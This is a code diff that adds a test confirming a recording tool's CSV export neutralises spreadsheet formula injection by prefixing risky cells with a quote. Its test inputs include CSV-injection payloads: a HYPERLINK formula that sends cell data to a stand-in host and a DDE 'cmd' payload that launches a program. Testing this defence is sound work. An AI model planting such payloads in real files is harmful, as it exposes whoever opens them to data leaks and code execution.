@@ -93,3 +93,25 @@ def test_texts_changed_in_the_file_reach_no_screen_or_terminal_raw(tmp_path: Pat
         for line in out.splitlines():
             assert not _unsafe(line), (command, line)
         assert not [line for line in out.splitlines() if line.startswith("line2")], out  # no line split
+
+
+def test_texts_that_a_spreadsheet_would_run_as_formulas_are_exported_as_text(tmp_path: Path) -> None:
+    """A device's status text or a command's result is the device's to choose: one starting "=", "+", "-" or "@"
+    (a formula in a spreadsheet that opens the CSV: OWASP "CSV injection") gets a leading '; the rest stand as they
+    are, and the JSON and number columns are never changed (second fresh tester of the tenth session)."""
+    formulas = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)", "=cmd|' /C calc'!A0"]
+    events = [Event(1000.1 + i / 100, "device", "info", "light", text, {"n": i})
+              for i, text in enumerate([*formulas, "plain = fine"])]  # (a tab or CR: a space by the text rule)
+    path = write_session(tmp_path, 0.3, events=events,
+                         commands=[CommandRecord(999.0, "light", "status", {"x": -1}, "=2*3", 999.01)])
+    with Recording.open(path) as rec:
+        export_csv(rec, tmp_path / "out")
+    rows = list(csv.DictReader(open(tmp_path / "out" / "events.csv", newline="")))
+    by_n = {json.loads(r["details_json"]).get("n"): r for r in rows if r["kind"] == "device"}
+    for i, text in enumerate(formulas):
+        cell = by_n[i]["message"]
+        assert cell == f"'{text}", (cell, text)
+    assert by_n[len(formulas)]["message"] == "plain = fine"
+    (command,) = list(csv.DictReader(open(tmp_path / "out" / "commands.csv", newline="")))
+    assert command["result"] == "'=2*3" and json.loads(command["args_json"]) == {"x": -1}
+    assert float(command["t_s"]) < 0 and command["t_s"].startswith("-")  # a number, as it is
